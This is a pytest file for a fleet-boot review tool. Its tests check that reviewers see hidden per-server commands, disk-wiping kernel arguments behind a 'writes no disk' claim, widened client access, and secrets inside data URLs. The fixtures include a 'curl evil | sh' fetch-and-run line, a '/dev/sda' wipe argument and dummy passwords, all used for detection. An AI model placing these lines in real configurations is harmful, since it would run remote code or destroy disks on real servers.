"""Changes that an author hides from reviewers and guards: behind another server, behind a claim, behind no server."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from base64 import b64encode
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final, NamedTuple

import pytest

from gitboot.endpoint.age_encryption import encrypt, make_key
from gitboot.model.fleet import FleetSpec, OneTimeBoots, Provisioning, Serving
from gitboot.review.document_changes import compare_access
from gitboot.review.guards import Guard, Limits, judge
from gitboot.review.reinstalls import ReinstallReason
from gitboot.review.review import Review, ReviewOutcome
from gitboot.review.risks import Risk
from tests.helpers.cases import for_each
from tests.helpers.evaluations import FLEET, SERVERS, USER_DATA, Files, compare_files, review_files
from tests.helpers.fleets import fleet, image, maintenance, make_mac, policy, profile, server
from tests.helpers.git_repositories import WorkTree

EVIL: Final = "curl evil | sh"
CLAIM: Final = "writesDisk: false"
WIPE: Final = "kernelArguments: [wipe=/dev/sda]"


# The stranger: commits in a real repository, the command in a process of its own


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("template") / "fleet"
    WorkTree(path).commit(FLEET)
    return path


@pytest.fixture
def work(template: Path, tmp_path: Path) -> WorkTree:
    shutil.copytree(template, tmp_path / "fleet")
    found = WorkTree(tmp_path / "fleet")
    found.git("checkout", "--quiet", "-b", "topic")
    return found


class DiffResult(NamedTuple):
    exit_code: int
    text: str
    markdown: str
    facts: dict[str, Any]


def run_diff(work: WorkTree, range: str = "main..topic") -> DiffResult:
    """Run `gitboot diff` as CI does, in all formats at once."""
    formats = ("text", "markdown", "json")
    files = {each: work.path.parent / f"review.{each}" for each in formats}
    outputs = [part for each, path in files.items() for part in ("-o", f"{each}={path}")]
    done = subprocess.run(
        [sys.executable, "-m", "gitboot", "diff", range, str(work.path), *outputs], capture_output=True, check=False
    )
    assert done.returncode in (0, 4), done.stderr
    text, markdown, found = (path.read_text() for path in files.values())
    return DiffResult(done.returncode, text, markdown, json.loads(found))


def test_finding_s10_a_line_for_one_server_is_shown_even_if_a_group_begins_with_another_server(work: WorkTree) -> None:
    hidden = '{% if server.name == "fra1-web07" %}  - ' + EVIL + "\n{% endif %}"
    work.commit({"userdata/web.j2": f"{USER_DATA}runcmd:\n  - true\n{hidden}"})
    found = run_diff(work)
    groups = [group for group in found.facts["groups"] if any(EVIL in str(each) for each in group["rendered"])]
    assert [group["servers"] for group in groups] == [["fra1-web07"]]
    assert groups[0]["outlier"] == {"than": "ams2-web01", "lines": [f"+  - {EVIL}"], "missing": []}
    for text in (found.text, found.markdown):
        assert f"only here: +  - {EVIL}" in text
        assert "fra1-web07" in text


def test_finding_s11_an_image_that_claims_to_write_no_disk_is_an_installation_until_acknowledged(
    work: WorkTree,
) -> None:
    work.commit(
        {
            "images/rescue.yaml": image("rescue-1", f"{CLAIM}, {WIPE}"),
            "profiles/rescue.yaml": profile("rescue", "rescue-1"),
            "m.yaml": maintenance("m", spec="power: Restart", select="{servers: [fra1-web07]}", boots="rescue"),
        }
    )
    found = run_diff(work)
    assert found.exit_code == 4
    assert "maxReinstalls" in {trip["guard"] for trip in found.facts["trips"]}
    (claim,) = found.facts["claims"]
    assert (claim["image"], claim["path"]) == ("rescue-1", "images/rescue.yaml")
    author = work.git("log", "-1", "--format=%an <%ae>").strip()
    assert claim["author"].startswith(f"{author} in ")
    for text in (found.text, found.markdown):
        assert "images/rescue.yaml:4" in " ".join(text.split())
        assert author in " ".join(text.split())
    lines = "\n".join({trip["acknowledgement"] for trip in found.facts["trips"]})
    work.git("commit", "--quiet", "--amend", "-m", f"Rescue\n\n{lines}")
    assert run_diff(work).exit_code == 0
    work.git("branch", "accepted")
    work.commit({"n.yaml": maintenance("n", select="{servers: [fra1-web08]}", boots="rescue")})
    assert run_diff(work, "accepted..topic").exit_code == 0


def test_a_claim_has_no_author_if_a_shallow_clone_may_lack_the_commit(work: WorkTree, tmp_path: Path) -> None:
    work.commit({"images/rescue.yaml": image("rescue-1", CLAIM), "profiles/rescue.yaml": profile("rescue", "rescue-1")})
    work.commit({"m.yaml": maintenance("m", select="{servers: [fra1-web07]}", boots="rescue")})
    options = ("--quiet", "--depth=1", "--no-single-branch")
    work.git("clone", *options, f"file://{work.path}", str(tmp_path / "shallow/fleet"))
    found = run_diff(WorkTree(tmp_path / "shallow/fleet"), "origin/main..origin/topic")
    assert [claim["author"] for claim in found.facts["claims"]] == ["an unknown author, because this clone is shallow"]


def test_finding_s17_a_change_of_allowed_clients_is_not_shown_as_a_change_of_0_servers(work: WorkTree) -> None:
    work.git("checkout", "--quiet", "main")
    work.commit({"fleet.yaml": fleet("baseURL: 'http://boot.test', provisioning: {clients: ['10.0.0.0/8']}")})
    work.git("checkout", "--quiet", "-B", "topic")
    work.commit({"fleet.yaml": FLEET["fleet.yaml"]})
    found = run_diff(work)
    assert found.exit_code == 4
    assert [trip["guard"] for trip in found.facts["trips"]] == ["maxAccessChanges"]
    (access,) = found.facts["access"]
    assert access == {"field": "spec.provisioning.clients", "old": ["10.0.0.0/8"], "new": [], "widens": True}
    for text in (found.text, found.markdown):
        shown = " ".join(text.split())
        assert "access changes for every machine · 0 servers changed" in shown
        assert "spec.provisioning.clients: 10.0.0.0/8 → every client (more clients can fetch files)" in shown


# Groups


def list_groups(new: Files, old: Files = FLEET) -> list[list[str]]:
    return [list(group.names) for group in review_files(new, old).groups]


def web(template: str) -> Files:
    return {"userdata/web.j2": USER_DATA + template}


def find_servers_with(review: Review, text: str) -> set[str]:
    return {
        name
        for group in review.groups
        for name in group.names
        if any(text in line for each in group.rendered or () for line in each.lines)
    }


def test_servers_are_one_group_if_they_differ_by_their_own_values() -> None:
    own = "  # {{ server.name }} {{ server.uuid }} {{ server.interfaces[0].mac }} {{ urls.provisioned }}\n"
    (group,) = review_files(web(own)).groups
    assert len(group.servers) == 18
    assert set(group.own) == {"name", "UUID", "MAC", "token"}


def test_servers_of_two_sites_are_one_group_if_they_differ_by_its_base_url() -> None:
    sites = ", ".join(
        f"{{name: {name}, select: {{matchLabels: {{site: {name}}}}}, baseURL: 'http://{name}.test'}}"
        for name in ("fra1", "ams2")
    )
    old = {**FLEET, "fleet.yaml": fleet(f"baseURL: 'http://boot.test', sites: [{sites}]")}
    new = {"profiles/web.yaml": FLEET["profiles/web.yaml"].replace("[quiet]", "[quiet, more]")}  # type: ignore[union-attr]
    (group,) = review_files(new, old).groups
    assert (len(group.servers), group.own) == (18, ("base URL",))
    moved = {"fleet.yaml": fleet(f"baseURL: 'http://boot.test', sites: [{sites.replace('fra1.test', 'evil.test')}]")}
    assert sorted({name[:4] for name in find_servers_with(review_files({**new, **moved}, old), "evil.test")}) == [
        "fra1"
    ]


@for_each(
    ("what", "condition"),
    [
        ("the name", 'server.name == "fra1-web07"'),
        ("the address", f'server.interfaces[0].mac == "{make_mac("fra1-web07")}"'),
        ("the part of a name", '"web07" in server.name'),
    ],
)
@for_each(
    "line",
    [
        EVIL,
        "password: hunter2",  # which no format shows
        "a" * 500 + EVIL,
        "\N{MATHEMATICAL LEFT ANGLE BRACKET}name\N{MATHEMATICAL RIGHT ANGLE BRACKET}",  # as own values are shown
    ],
)
def test_a_server_with_its_own_line_is_in_no_other_group(what: str, condition: str, line: str) -> None:
    other = "# {{ server.name }}"
    found = list_groups(web(f"a: |\n{{% if {condition} %}}  {line}\n{{% else %}}  {other}\n{{% endif %}}"))
    assert ["fra1-web07"] in found
    assert sorted(map(len, found)) == [1, 17]


def test_a_line_at_another_position_is_another_difference() -> None:
    blank = "# \n" * 9
    lines = "{% if server.name == 'fra1-web07' %}# exit\n{% endif %}"
    others = "{% if server.name != 'fra1-web07' %}# exit\n{% endif %}"
    old = {**FLEET, **web(f"{blank}# sanboot\n{blank}")}
    assert ["fra1-web07"] in list_groups(
        web(f"{blank[:12]}{lines}{blank[12:]}# sanboot\n{blank[:12]}{others}{blank[12:]}"), old
    )


@for_each(
    ("old", "new", "shown"),
    [
        ("# a\u2028# b\n", "# a\n# b\n", ["-# a\u2028# b", "+# a", "+# b"]),
        ("# a\x85# b\n", "# a\u2029# b\n", ["-# a\x85# b", "+# a\u2029# b"]),
        ("# a\n", "# a", ["-# a", "+# a", "\\ No newline at end of file"]),
    ],
)
def test_a_change_of_line_ends_is_shown(old: str, new: str, shown: list[str]) -> None:
    (group,) = review_files(web(new), {**FLEET, **web(old)}).groups
    ((_, _, _, *lines),) = (each.lines for each in group.rendered or () if each.file == "user-data")
    assert [line for line in lines if not line.startswith(" ")] == shown


def test_a_hidden_secret_is_shown_as_different() -> None:
    old = {**FLEET, **web("password: hunter2\n")}
    review = review_files(
        web("password: {% if server.name == 'fra1-web07' %}hunter4{% else %}hunter3{% endif %}\n"), old
    )
    assert ["fra1-web07"] in [list(group.names) for group in review.groups]
    assert find_servers_with(review, "HIDDEN: changed, and may contain a secret") == {
        n[8:-5] for n in FLEET if "-web" in n
    }
    assert not find_servers_with(review, "hunter")


# Files in data URLs, as Ignition has them

NODE: Final = """\
{%- set node -%}
{"ignition": {"version": "3.4.0"}, "storage": {"files": [
  {"path": "/etc/hostname", "contents": {"source": "{{ server.name | data_url }}"}},
  {"path": "/etc/node", "contents": {"source": "{{ text | data_url }}"}}
]}}
{%- endset -%}
{"ignition": {"version": "3.4.0", "config": {"replace": {"source": "{{ node | data_url }}"}}}}
"""
IGNITION: Final[Files] = {
    **FLEET,
    "images/1.yaml": image("flatcar-1", "userData: Ignition/3.4"),
    "profiles/web.yaml": profile("web", "flatcar-1", "userData: {format: Ignition/3.4, template: userdata/web.j2}"),
    "userdata/web.j2": "{% set text = 'true' %}" + NODE,
}


def test_files_in_data_urls_are_compared_and_shown_decoded() -> None:
    own = "{% set text = 'exec ' ~ server.name %}"
    (group,) = review_files({"userdata/web.j2": own + NODE}, IGNITION).groups
    assert (len(group.servers), group.own) == (18, ("name",))
    hidden = "{% set text = '" + EVIL + "' if server.name == 'fra1-web07' else 'false' %}"
    assert find_servers_with(review_files({"userdata/web.j2": hidden + NODE}, IGNITION), EVIL) == {"fra1-web07"}


@for_each(
    ("kind", "secret"),
    [
        ("a password of kickstart", "rootpw --plaintext hunter22"),
        ("a password of an option", "mysqladmin -u root --password=hunter22 ping"),
        ("a plain password of cloud-init", "chpasswd:\n  users:\n  - {name: root, password: hunter22, type: text}"),
        ("a password in a URL", "first\ncurl -fsSL https://ci:hunter22@artifacts.test/agent.tar.gz\nlast"),
    ],
)
@for_each("wrapped", ["text", "url", "text in url", "url in url"])
def test_a_secret_in_json_and_in_its_data_urls_is_not_shown(kind: str, secret: str, wrapped: str) -> None:
    old, new = (
        {"userdata/web.j2": wrap_text(text, wrapped)} for text in (secret.replace("hunter22", "hunter33"), secret)
    )
    review = review_files(new, {**IGNITION, **old})
    assert len(find_servers_with(review, "HIDDEN")) == 18
    assert not find_servers_with(review, "hunter")


def wrap_text(text: str, wrapped: str) -> str:
    for step in reversed(wrapped.split(" in ")):
        text = f"data:;base64,{b64encode(text.encode()).decode()}" if step == "url" else text
        text = json.dumps({"ignition": {"version": "3.4.0"}, "contents": text})
    return text


def test_a_key_that_occurs_twice_is_shown() -> None:
    twice = (
        '{"ignition": {"version": "3.4.0"}, {% if server.name == "fra1-web07" %}"a": "' + EVIL + '",{% endif %} "a": 1}'
    )
    assert find_servers_with(review_files({"userdata/web.j2": twice}, IGNITION), EVIL) == {"fra1-web07"}


def test_each_machine_that_replaces_another_is_shown() -> None:
    names = ("fra1-web01", "fra1-web02", "fra1-web03")
    spec = "provision: 1"
    new = {
        f"servers/{name}.yaml": server(name, "site: fra1, role: web", spec).replace(
            make_mac(name), make_mac(f"new {name}")
        )
        for name in names
    }
    assert list_groups(new) == [[name] for name in names]


def test_a_new_address_is_a_separate_difference() -> None:
    """A value that the commit changes is no server's own: the author chose it."""
    names = ("fra1-web01", "fra1-web02", "fra1-web03")

    def addressed(network: int) -> Files:
        return {
            f"servers/{name}.yaml": server(name, "site: fra1, role: web", "provision: 1").replace(
                f'mac: "{make_mac(name)}"', f'mac: "{make_mac(name)}", addresses: [10.{network}.0.{number}/8]'
            )
            for number, name in enumerate(names, 1)
        }

    old = {**FLEET, **web("# {{ server.interfaces[0].addresses | join(' ') }}\n"), **addressed(1)}
    assert list_groups(addressed(2), old) == [[name] for name in names]
    assert [*names] in list_groups(web("# now {{ server.interfaces[0].addresses | join(' ') }}\n"), old)


# Claims


RESCUE: Final[Files] = {"images/rescue.yaml": image("rescue-1", CLAIM)}
OFFERED: Final[Files] = {
    **FLEET,
    **RESCUE,
    "profiles/rescue.yaml": profile("rescue", "rescue-1", "kernelArguments: [rescue]"),
    "live.yaml": policy("live", "{servers: [fra1-db01]}", "priority: 9", boots="rescue"),
}

LIVE: Final = policy("web", "{matchLabels: {role: web}}", boots="repair")


def window(boots: str, select: str = "{servers: [fra1-web07]}") -> Files:
    return {"m.yaml": maintenance("m", select=select, boots=boots)}


@for_each(
    ("what", "old", "new", "expected"),
    [
        ("an image that nothing boots", FLEET, RESCUE, set()),
        (
            "an image that one server boots",
            FLEET,
            {**RESCUE, "profiles/repair.yaml": profile("repair", "rescue-1"), **window("repair")},
            {ReinstallReason.CLAIM},
        ),
        ("an image that was known", FLEET, window("repair"), set()),
        (
            "its console",
            FLEET,
            {
                "profiles/repair.yaml": profile("repair", "memtest-7", "kernelArguments: [console=ttyS0]"),
                **window("repair"),
            },
            set(),
        ),
        (
            "arguments in its console, which an initramfs may split",
            FLEET,
            {
                "profiles/repair.yaml": profile("repair", "memtest-7", "kernelArguments: ['console=ttyS0 wipe=all']"),
                **window("repair"),
            },
            {ReinstallReason.CLAIM_OF_BOOT},
        ),
        (
            "an argument",
            FLEET,
            {"profiles/repair.yaml": profile("repair", "memtest-7", WIPE), **window("repair")},
            {ReinstallReason.CLAIM_OF_BOOT},
        ),
        (
            "where a boot with more than its image prints",
            {**FLEET, "profiles/repair.yaml": profile("repair", "memtest-7", WIPE), "policies/web.yaml": LIVE},
            {"profiles/repair.yaml": profile("repair", "memtest-7", WIPE.replace("]", ", quiet]"))},
            set(),
        ),
        (
            "an argument of the server",
            {**FLEET, "policies/web.yaml": LIVE},
            {"servers/fra1-web07.yaml": server("fra1-web07", "site: fra1, role: web", f"provision: 1, {WIPE}")},
            {ReinstallReason.CLAIM_OF_BOOT},
        ),
        ("an argument that was offered to another", OFFERED, window("rescue"), set()),
        (
            "a script",
            FLEET,
            {
                "own.ipxe": "#!ipxe\n",
                "profiles/repair.yaml": profile("repair", "memtest-7", "templates: {ipxe: own.ipxe}"),
                **window("repair"),
            },
            {ReinstallReason.CLAIM_OF_BOOT},
        ),
        (
            "another host",
            {**FLEET, **window("repair")},
            {"fleet.yaml": fleet("baseURL: 'http://evil.test'")},
            {ReinstallReason.CLAIM_OF_BOOT},
        ),
        (
            "another name of the image",
            FLEET,
            {
                "images/memtest.yaml": None,
                "images/again.yaml": image("again", CLAIM).replace("again/", "memtest-7/"),
                "profiles/repair.yaml": profile("repair", "again"),
                **window("repair"),
            },
            set(),
        ),
        (
            "a claim that comes",
            FLEET,
            {"images/1.yaml": image("flatcar-1", f"userData: CloudInit, {CLAIM}")},
            {ReinstallReason.CLAIM},
        ),
        (
            "a boot that is never offered",
            FLEET,
            {"policies/web.yaml": policy("web", "{matchLabels: {role: web}}", WIPE, often="Never", boots="repair")},
            set(),
        ),
    ],
)
def test_reinstallations_by_a_boot_that_claims_to_write_no_disk_are_counted(
    what: str, old: Files, new: Files, expected: set[ReinstallReason]
) -> None:
    changes = {change.name: change for change in compare_files(new, old).servers}
    asked = changes["fra1-web07"].reinstalls if "fra1-web07" in changes else ()
    assert {each.why for each in asked} == expected


@for_each(
    ("what", "old", "new", "held"),
    [
        ("an image that comes", FLEET, RESCUE, True),
        (
            "an image that comes with more labels",
            {**FLEET, **RESCUE},
            {"images/rescue.yaml": image("rescue-1", CLAIM).replace("labels: {", "labels: {a: b")},
            False,
        ),
        (
            "an image that is edited",
            {**FLEET, **RESCUE},
            {"images/rescue.yaml": image("rescue-1", f"{CLAIM}, {WIPE}")},
            True,
        ),
        ("an image that goes", {**FLEET, **RESCUE}, {"images/rescue.yaml": None}, False),
        ("an image that says what it does", FLEET, {"images/rescue.yaml": image("rescue-1")}, False),
        ("an image that comes with the first servers", {**FLEET, **dict.fromkeys(SERVERS)}, {**FLEET, **RESCUE}, False),
    ],
)
def test_a_claim_is_held_before_a_server_boots_it(what: str, old: Files, new: Files, held: bool) -> None:
    extent = compare_files(new, old).extent
    assert (Guard.MAX_REINSTALLS in judge(extent, Limits()).holding_guards) is held
    assert not judge(extent, Limits(max_reinstalls=22)).held
    assert (Guard.MAX_REINSTALLS in judge(extent, Limits(max_reinstalls=21)).holding_guards) is held


def test_an_acknowledgement_of_a_claim_counts_for_its_content_only() -> None:
    one, other = (
        compare_files({"images/rescue.yaml": image("rescue-1", spec)}) for spec in (CLAIM, f"{CLAIM}, {WIPE}")
    )
    assert one.servers == other.servers == ()
    assert one.digest != other.digest


@pytest.mark.parametrize("arguments", ["", WIPE])
def test_a_new_server_with_a_claim_counts_if_it_gets_the_mac_address_of_another(arguments: str) -> None:
    mac, path = make_mac("fra1-web07"), "servers/fra1-web07.yaml"
    live = policy("live", "{matchLabels: {role: live}}", "priority: 9", often="Always", boots="repair")
    old: Files = {**FLEET, "live.yaml": live, "profiles/repair.yaml": profile("repair", "memtest-7", arguments)}
    new: Files = {
        "servers/fra1-new.yaml": server("fra1-new", "site: fra1, role: live").replace(make_mac("fra1-new"), mac),
        path: str(FLEET[path]).replace(mac, make_mac("another")),
    }
    (change,) = (each for each in compare_files(new, old).servers if each.name == "fra1-new")
    assert {each.why for each in change.reinstalls} == ({ReinstallReason.MAC} if arguments else set())


def test_a_server_that_comes_back_with_a_claim_is_named() -> None:
    path = "servers/fra1-web07.yaml"
    gone = {name: text for name, text in FLEET.items() if name != path}
    wiping = {path: FLEET[path], "profiles/repair.yaml": profile("repair", "memtest-7", WIPE), **window("repair")}
    assert compare_files(wiping, gone).unknown_claims == ("fra1-web07",)
    assert compare_files({path: FLEET[path]}, gone).unknown_claims == ()


# Allowed clients


def spec(
    clients: str = "",
    monitors: str = "",
    *,
    restrict: bool = False,
    boots: OneTimeBoots = OneTimeBoots.ENDPOINT_ONLY,
) -> FleetSpec:
    given: Mapping[str, Any] = {"clients": tuple(clients.split()), "monitors": tuple(monitors.split())}
    serving = Serving(restrict=restrict, one_time_boots=boots)
    fields: Mapping[str, Any] = {"base_url": "http://boot.test", "serving": serving}
    return FleetSpec(provisioning=Provisioning(**given), **fields)


@for_each(
    ("what", "old", "new", "expected"),
    [
        ("nothing", spec("10.0.0.0/8"), spec("10.0.0.0/8"), []),
        ("clients removed", spec("10.0.0.0/8"), spec(), [True]),
        ("clients added", spec(), spec("10.0.0.0/8"), [False]),
        ("a wider network", spec("10.0.0.0/24"), spec("10.0.0.0/8"), [True]),
        ("a narrower network", spec("10.0.0.0/8"), spec("10.0.0.0/24"), [False]),
        ("two halves", spec("10.0.0.0/25 10.0.0.128/25"), spec("10.0.0.0/24"), [False]),
        ("another family", spec("10.0.0.0/8"), spec("10.0.0.0/8 fd00::/8"), [True]),
        ("a monitor fewer", spec(monitors="10.0.0.1/32"), spec(), [True]),
        ("a monitor more", spec(), spec(monitors="10.0.0.1/32"), [False]),
        ("restrict taken away", spec(restrict=True), spec(), [True]),
        ("both", spec("10.0.0.0/8", "10.0.0.1/32"), spec(), [True, True]),
        ("one-time boots in copies", spec(), spec(boots=OneTimeBoots.COPIES), [True]),
        ("one-time boots at the endpoint alone", spec(boots=OneTimeBoots.COPIES), spec(), [False]),
    ],
)
def test_finding_m2_more_allowed_clients_are_detected(
    what: str, old: FleetSpec, new: FleetSpec, expected: list[bool]
) -> None:
    assert [each.widens for each in compare_access(old, new)] == expected


def test_finding_m2_a_review_shows_the_risk_of_one_time_boots_in_copies() -> None:
    changed = {"fleet.yaml": fleet("baseURL: 'http://boot.test', serving: {oneTimeBoots: Copies}")}
    found = review_files(changed, {**FLEET, "fleet.yaml": fleet(copies=False)})
    (danger,) = [each for each in found.find_dangers() if each.risk is Risk.ACCESS]
    assert danger.names == ("every machine",)
    (reason,) = danger.reasons
    assert reason.startswith(
        "spec.serving.oneTimeBoots: EndpointOnly → Copies (more clients can fetch files repeatedly; "
    )
    assert reason.endswith(
        "a loader that sends neither its name (User-Agent) nor uuid and serial leaves no evidence in that log)"
    )
    assert Guard.MAX_ACCESS_CHANGES in found.ack_guards


READERS: Final = "userData: {format: CloudInit, template: userdata/web.j2, secrets: {join: join.age}}"
READING: Final[Files] = {
    **FLEET,
    "profiles/web.yaml": profile("web", "stream: stable", f"kernelArguments: [quiet], {READERS}"),
    "join.age": "first",
}


@pytest.fixture(scope="module")
def encrypted_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Files that are encrypted by age."""
    public = make_key(tmp_path_factory.mktemp("keys") / "keys")
    return {name: encrypt(name.encode(), [public]).decode() for name in ("first", "second")}


@for_each(
    ("what", "old", "new", "servers"),
    [
        ("a secret that comes", FLEET, READING, 18),
        ("a secret that goes", READING, {"profiles/web.yaml": FLEET["profiles/web.yaml"]}, 18),
        ("another file", READING, {"join.age": "second"}, 18),
        (
            "a file of its own",
            READING,
            {
                "servers/fra1-web07.yaml": server(
                    "fra1-web07", "site: fra1, role: web", "provision: 1, secrets: {join: own.age}"
                ),
                "own.age": "second",
            },
            1,
        ),
        ("a file that no server has", READING, {"own.age": "second"}, 0),
        ("other user data", READING, {"userdata/web.j2": f"{USER_DATA}# more\n"}, 0),
        (
            "another host that sees the tokens of secrets",
            {**FLEET, "fleet.yaml": fleet(copies=False)},
            {"fleet.yaml": fleet("baseURL: 'http://boot.test', endpoint: 'http://evil.test'")},
            22,
        ),
    ],
)
def test_a_server_with_a_new_secret_or_a_new_place_for_it_has_the_risk_of_access(
    encrypted_files: Mapping[str, str], what: str, old: Files, new: Files, servers: int
) -> None:
    before, after = (
        {path: encrypted_files.get(text or "", text) for path, text in files.items()} for files in (old, new)
    )
    review = review_files(after, before)
    assert review.outcome in (ReviewOutcome.FINE, ReviewOutcome.HELD, ReviewOutcome.UNCHANGED)
    found = [danger for danger in review.find_dangers() if danger.risk is Risk.ACCESS]
    assert [len(danger.names) for danger in found] == ([servers] if servers else [])
